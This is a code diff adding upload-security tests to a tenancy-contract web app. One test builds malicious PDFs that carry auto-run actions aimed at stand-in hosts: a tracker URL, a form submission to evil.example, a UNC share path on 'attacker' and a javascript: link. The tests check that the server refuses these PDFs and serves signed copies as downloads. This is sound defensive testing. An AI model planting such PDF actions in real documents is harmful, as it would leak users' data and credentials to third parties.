@@ -5,7 +5,9 @@
 import path from 'node:path';
 import { Readable } from 'node:stream';
 import { messages } from '@sewamudah/shared';
+import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { contracts } from '../../db/schema/index.js';
 import { authHeader, buildContract, buildCustomer, buildProperty } from '../../test/factories/index.js';
 import { createTestApp, type TestContext } from '../../test/test-app.js';
 import {
@@ -110,6 +112,20 @@ describe('signed contract upload attacks', () => {
     }
   });
 
+  it('refuses PDFs that open a web address, submit the form, open a file on a UNC path or link to javascript:', async () => {
+    const link = (action: string) =>
+      `4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj\n`;
+    const pdfs = [
+      handWrittenPdf('/OpenAction << /S /URI /URI (https://tracker.example/opened) >>'),
+      handWrittenPdf('/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>'),
+      handWrittenPdf(String.raw`/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>`),
+      handWrittenPdf('', link('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>')),
+    ];
+    for (const data of pdfs) {
+      await expectRefused(await send(rawMultipart(signed(data))), 400, messages.uploads.pdfUnsafe);
+    }
+  });
+
   it('refuses an encrypted PDF', async () => {
     const text = handWrittenPdf('').toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R');
     await expectRefused(
@@ -166,5 +182,29 @@ describe('signed contract upload attacks', () => {
     expect(res.statusCode).toBe(200);
     expect(res.json().contract.hasSignedCopy).toBe(true);
     expect(await listFiles(storageDir())).toEqual([...filesBefore, `contracts/${contractId}/signed.pdf`].sort());
+  });
+
+  it('serves the uploaded signed copy as an attachment (never opened by the browser from a link), the agreement inline', async () => {
+    const signedCopy = await ctx.app.inject({
+      method: 'GET',
+      url: `/api/contracts/${contractId}/signed-file`,
+      headers: tenantAuth,
+    });
+    expect(signedCopy.statusCode).toBe(200);
+    expect(signedCopy.headers['content-disposition']).toBe(
+      `attachment; filename="signed-tenancy-agreement-${contractId}.pdf"`,
+    );
+    expect(signedCopy.headers['x-content-type-options']).toBe('nosniff');
+    await ctx.database.db
+      .update(contracts)
+      .set({ contractFileKey: `contracts/${contractId}/agreement.pdf` })
+      .where(eq(contracts.id, contractId));
+    const agreement = await ctx.app.inject({
+      method: 'GET',
+      url: `/api/contracts/${contractId}/file`,
+      headers: tenantAuth,
+    });
+    expect(agreement.statusCode).toBe(200);
+    expect(agreement.headers['content-disposition']).toBe(`inline; filename="tenancy-agreement-${contractId}.pdf"`);
   });
 });
